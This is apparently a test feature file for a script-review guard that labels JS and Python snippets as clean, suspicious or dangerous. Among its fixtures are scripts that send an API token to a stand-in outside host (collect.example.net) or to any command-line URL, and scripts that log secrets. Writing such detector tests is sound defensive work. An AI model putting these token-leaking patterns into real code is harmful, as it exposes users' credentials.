@script-review
Feature: script pre-review of client classes, dataclass members, mask widths held by a parameter and a vendor's second host
  A `new Error(message)` or `new URL(text)` runs the language's own class, never the script's
  constructor: the script's `new Client(base, token)` alone says where its requests go. A
  constructor that makes a local of a parameter and stores the local (`const url = new
  URL(base); this.origin = url.origin`) stores the parameter, so a method's result is what
  its body returns, not the token the constructor was given. A Python mask helper cutting
  `secret[:keep]` with `keep=4` shows four characters, as `secret[:4]` does. A dataclass puts a
  call's arguments into its fields only, so its counter is no token. An access token a vendor's
  login gave for the vendor's secret, used at another host the vendor documents for that
  secret, goes to the same vendor's API.

  Scenario: a client class that throws an Error sends its token only to the loopback server it was given
    Given a project file "local_stats.js" containing:
      """
      class Client {
        constructor(base, key) {
          this.base = base;
          this.key = key;
        }
        async get(route) {
          const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
          if (res.ok) return (await res.json()).results;
          throw new Error(`GET ${route}: HTTP ${res.status}`);
        }
      }
      async function main() {
        const client = new Client('http://localhost:8000', process.env.ACME_API_KEY);
        console.log(JSON.stringify(await client.get('stats')));
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json local_stats.js"
    Then the JSON field "verdict" is "clean"

  Scenario: the same client class given a host nobody answers for still sends the token there
    Given a project file "remote_stats.js" containing:
      """
      class Client {
        constructor(base, key) {
          this.base = base;
          this.key = key;
        }
        async get(route) {
          const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
          if (res.ok) return (await res.json()).results;
          throw new Error(`GET ${route}: HTTP ${res.status}`);
        }
      }
      async function main() {
        const client = new Client('https://collect.example.net', process.env.ACME_API_KEY);
        console.log(JSON.stringify(await client.get('stats')));
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json remote_stats.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"

  Scenario: a constructor storing its URL through a local leaves the token out of what a method returns
    Given a project file "stats_rows.js" containing:
      """
      class Stats {
        #origin;
        #key;
        constructor(base, key) {
          const url = new URL(base);
          if (url.hostname !== 'localhost') throw new Error(`${url.hostname} is not local`);
          this.#origin = url.origin;
          this.#key = key;
        }
        async get(route) {
          const res = await fetch(`${this.#origin}/api/${route}`, { headers: { authorization: `Bearer ${this.#key}` } });
          return res.ok ? (await res.json()).results : [];
        }
      }
      async function main() {
        const client = new Stats(process.env.STATS_URL || 'http://localhost:8000', process.env.STATS_API_KEY);
        console.log(JSON.stringify(await client.get('aggregate'), null, 2));
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json stats_rows.js"
    Then stdout does not contain "secret-to-output"

  Scenario: a method returning the stored key itself still prints the key
    Given a project file "stats_key.js" containing:
      """
      class Stats {
        #origin;
        #key;
        constructor(base, key) {
          const url = new URL(base);
          if (url.hostname !== 'localhost') throw new Error(`${url.hostname} is not local`);
          this.#origin = url.origin;
          this.#key = key;
        }
        async get(route) {
          return [this.#key, route];
        }
      }
      async function main() {
        const client = new Stats(process.env.STATS_URL || 'http://localhost:8000', process.env.STATS_API_KEY);
        console.log(JSON.stringify(await client.get('aggregate'), null, 2));
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json stats_key.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-output"

  Scenario: a Python mask helper whose width defaults to four shows no secret
    Given a project file "zammad_mask.py" containing:
      """
      import logging
      import os

      log = logging.getLogger("report")


      def mask(secret, keep=4):
          if not secret:
              return "<unset>"
          return secret[:keep] + "*" * (len(secret) - keep)


      token = os.environ.get("ZAMMAD_TOKEN", "")
      log.info("using token %s", mask(token))
      """
    When I run "terraphim-agent guard review-script --json zammad_mask.py"
    Then stdout does not contain "secret-to-output"

  Scenario: the same helper called with a width of forty shows the token
    Given a project file "zammad_mask_wide.py" containing:
      """
      import logging
      import os

      log = logging.getLogger("report")


      def mask(secret, keep=4):
          if not secret:
              return "<unset>"
          return secret[:keep] + "*" * (len(secret) - keep)


      token = os.environ.get("ZAMMAD_TOKEN", "")
      log.info("using token %s", mask(token, keep=40))
      """
    When I run "terraphim-agent guard review-script --json zammad_mask_wide.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-output"

  Scenario: a dataclass counter of a client holding a token is no secret
    Given a project file "zammad_calls.py" containing:
      """
      import logging
      import os
      from dataclasses import dataclass

      log = logging.getLogger("x")


      @dataclass
      class Client:
          base_url: str
          token: str
          calls: int = 0

          def get(self, path):
              self.calls += 1
              return path


      client = Client("http://localhost:8000", os.environ["ZAMMAD_TOKEN"])
      client.get("/x")
      log.info("%d API calls", client.calls)
      """
    When I run "terraphim-agent guard review-script --json zammad_calls.py"
    Then stdout does not contain "secret-to-output"

  Scenario: the token field of the same dataclass is the token
    Given a project file "zammad_token.py" containing:
      """
      import logging
      import os
      from dataclasses import dataclass

      log = logging.getLogger("x")


      @dataclass
      class Client:
          base_url: str
          token: str
          calls: int = 0


      client = Client("http://localhost:8000", os.environ["ZAMMAD_TOKEN"])
      log.info("token %s", client.token)
      """
    When I run "terraphim-agent guard review-script --json zammad_token.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-output"

  Scenario: a Graph request with the access token the Microsoft login gave for the client secret is the vendor's own API
    Given a project file "graph_users.js" containing:
      """
      const GRAPH = 'https://graph.microsoft.com/v1.0';
      async function token() {
        const body = new URLSearchParams({
          client_id: process.env.M365_CLIENT_ID,
          client_secret: process.env.M365_CLIENT_SECRET,
          scope: 'https://graph.microsoft.com/.default',
          grant_type: 'client_credentials',
        });
        const res = await fetch(`https://login.microsoftonline.com/${process.env.M365_TENANT_ID}/oauth2/v2.0/token`, { method: 'POST', body });
        const json = await res.json();
        return json.access_token;
      }
      async function main() {
        const access = await token();
        const res = await fetch(`${GRAPH}/users?$top=5`, { headers: { Authorization: `Bearer ${access}` } });
        const users = await res.json();
        console.log(users.value.length);
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json graph_users.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a Graph request with no Microsoft secret used is a host not on the allowed list
    Given a project file "graph_public.js" containing:
      """
      const GRAPH = 'https://graph.microsoft.com/v1.0';
      async function main() {
        const res = await fetch(`${GRAPH}/users?$top=5`);
        const users = await res.json();
        console.log(users.value.length);
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json graph_public.js"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "network-unlisted-host"

  Scenario: a client class refusing a command-line URL whose host is off its allow-list sends the token only there
    Given a project file "checked_client.js" containing:
      """
      const ALLOWED = new Set(['localhost', '127.0.0.1']);
      class Client {
        constructor(base, key) {
          const u = new URL(base);
          if (!ALLOWED.has(u.hostname)) throw new Error(`refusing ${u.hostname}`);
          this.base = u.origin;
          this.key = key;
        }
        async get(route) {
          const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
          if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
          return res.json();
        }
      }
      async function main() {
        const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
        console.log(JSON.stringify(await client.get('stats')));
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json checked_client.js"
    Then the JSON field "verdict" is "clean"

  Scenario: the same client class whose refusal only logs still sends the token anywhere
    Given a project file "logging_client.js" containing:
      """
      const ALLOWED = new Set(['localhost', '127.0.0.1']);
      class Client {
        constructor(base, key) {
          const u = new URL(base);
          if (!ALLOWED.has(u.hostname)) console.warn(`refusing ${u.hostname}`);
          this.base = u.origin;
          this.key = key;
        }
        async get(route) {
          const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
          if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
          return res.json();
        }
      }
      async function main() {
        const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
        console.log(JSON.stringify(await client.get('stats')));
      }
      main();
      """
    When I run "terraphim-agent guard review-script --json logging_client.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"
